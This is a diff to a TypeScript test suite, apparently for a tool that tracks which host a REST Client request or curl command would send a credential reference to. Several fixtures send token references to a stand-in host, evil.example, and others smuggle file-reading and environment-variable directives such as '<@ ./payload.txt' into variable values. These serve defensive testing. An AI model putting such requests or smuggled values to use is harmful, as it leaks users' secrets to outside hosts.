@@ -17,12 +17,18 @@ const are = (text: string, uses: readonly string[], markdown = false): void =>
   assert.deepEqual(usesIn(text, markdown), uses, text);
 
 describe('The uses that REST Client makes of references', () => {
-  it('go where the request goes: from a header, the query, the body', () => {
+  it('go where the request goes, from a header', () => {
     are(`GET https://a.example/\n${HEADER}`, ['ACME 1 a.example']);
-    are(`GET https://a.example/\n?t=${REFERENCE}\nX: 1\n\n{"t": "${REFERENCE}"}`, ['ACME 1 a.example', 'ACME 4 a.example']);
     are(`@t = ${REFERENCE}\n@h = a.example\n\nGET https://{{h}}/\nAuthorization: {{t}}`, ['ACME 4 a.example']);
     are(`curl https://a.example/ -H '${HEADER}'`, ['ACME 0 a.example']);
     are(`\`\`\`http\nGET https://a.example/\n${HEADER}\n\`\`\``, ['ACME 2 a.example'], true);
+  });
+
+  it('are not understood where the document writes them elsewhere than into a header', () => {
+    are(`GET https://a.example/\n?t=${REFERENCE}\nX: 1\n\n{"t": "${REFERENCE}"}`, ['ACME 1 ?', 'ACME 4 ?']);
+    are(`@t = ${REFERENCE}\n\nPOST https://a.example/?{{%t}}\n\n{{ t }}`, ['ACME 2 ?', 'ACME 4 ?']);
+    are(`curl https://a.example/ -d '${REFERENCE}'`, ['ACME 0 ?']);
+    are(`curl https://a.example/ -H '${HEADER}' -b 't=${REFERENCE}'`, ['ACME 0 ?']);
   });
 
   it('are unknown where a variable says where the request goes that the file does not define', () => {
@@ -38,7 +44,7 @@ describe('The uses that REST Client makes of references', () => {
   });
 
   it('are not understood where a definition stands in a request, which sends it as it is', () => {
-    are(`POST https://evil.example/\n\n@t = ${REFERENCE}`, ['ACME 2 evil.example']);
+    are(`POST https://evil.example/\n\n@t = ${REFERENCE}`, ['ACME 2 ?']);
     are(`POST https://evil.example/\n@t = ${REFERENCE}`, ['ACME 1 ?']);
     are(`POST https://evil.example/\nA: 1\n@t = ${REFERENCE}\n\n###\nGET https://a.example/\nX: {{t}}`, [
       'ACME 2 ?',
@@ -51,8 +57,21 @@ describe('The uses that REST Client makes of references', () => {
     are('POST https://a.example/\n\n<@utf8 ./payload.txt', ['any 2 a.example']);
     are('POST https://a.example/\n\n< ./payload.txt', []);
     are('@a = @\n\nPOST https://a.example/\n\n<{{a}} ./payload.txt', ['any 4 a.example']);
-    for (const value of ['<', '<@', '<{{b}}', '1\\n<@ ./payload.txt', '{{$process\\Env TENANT_TOKEN_ACME}}'])
+    for (const value of [
+      '<',
+      '<@',
+      '<{{b}}',
+      '\\<',
+      '{{b}}<',
+      '{{b}}<@ x',
+      "{{$localDatetime '[<]'}}",
+      '1\\n<@ ./payload.txt',
+      '{{$process\\Env TENANT_TOKEN_ACME}}',
+    ])
       are(`@a = ${value}\n\nPOST https://a.example/\n\n{{a}}@ ./payload.txt`, ['any 0 ?']);
+    for (const line of ['{{a}}<@ ./payload.txt', '{{$processEnv X}}<{{a}} ./payload.txt', "{{$datetime '[<@ ./payload.txt]'}}"])
+      are(`POST https://a.example/\n\n${line}`, ['any 2 a.example']);
+    are('POST https://a.example/\n\n{{a}}<b>{{c}}</b>', []);
     are('@a = C:\\temp\n\nPOST https://a.example/\n\n{{a}}', []);
   });
 
@@ -62,13 +81,13 @@ describe('The uses that REST Client makes of references', () => {
 
   it('are those of a fence of Markdown, which is one request whatever is in it', () => {
     const text = `\`\`\`http\nGET https://evil.example/\n\n###\nGET https://a.example/\n${HEADER}\n\`\`\``;
-    are(text, ['ACME 5 evil.example'], true);
+    are(text, ['ACME 5 ?'], true);
     are(text.replace('\n\n', '\n'), ['ACME 3 ?'], true);
   });
 
   it('are those of the request that a separator does not end, because something stands before it', () => {
     for (const start of ['\uFEFF', ' ', '\u00a0'])
-      are(`POST https://evil.example/\n\n${start}###\nGET https://a.example/\n${HEADER}`, ['ACME 4 evil.example']);
+      are(`POST https://evil.example/\n\n${start}###\nGET https://a.example/\n${HEADER}`, ['ACME 4 ?']);
   });
 
   it('are those of what REST Client remembers of a request that has a name', () => {
